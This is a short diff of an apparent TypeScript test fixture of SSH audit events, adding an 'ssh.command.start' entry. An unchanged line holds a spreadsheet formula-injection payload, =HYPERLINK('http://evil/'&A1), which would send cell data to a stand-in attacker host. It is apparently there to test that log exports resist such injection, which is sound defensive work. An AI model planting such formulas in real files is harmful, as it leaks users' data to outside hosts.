@@ -28,6 +28,7 @@ const EVENTS: Record<EventType, Omit<EventInput, 'type'>> = {
   'session.end': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { reason: 'client_closed', duration_ms: 5230, bytes_from_client: 1200, bytes_to_client: 88000, statements: 0 } },
   'ssh.exec.start': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 0, command: 'uptime' } },
   'ssh.exec': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 0, command: 'uptime', exit_status: 0 } },
+  'ssh.command.start': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 1, command: 'uptime', source: 'terminal', prompt: 'alice@web1:~$' } },
   'ssh.command': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 1, command: '=HYPERLINK("http://evil/"&A1)', source: 'terminal' } },
   'ssh.sftp': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 2, op: 'rename', old_path: '/tmp/a.txt', new_path: '/tmp/b.txt', posix: true, result: 'ok' } },
   'ssh.scp': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 3, op: 'file', direction: 'upload', mode: '0644', size: 12, bytes: 12, path: '/srv/app/config.yml', result: 'ok' } },
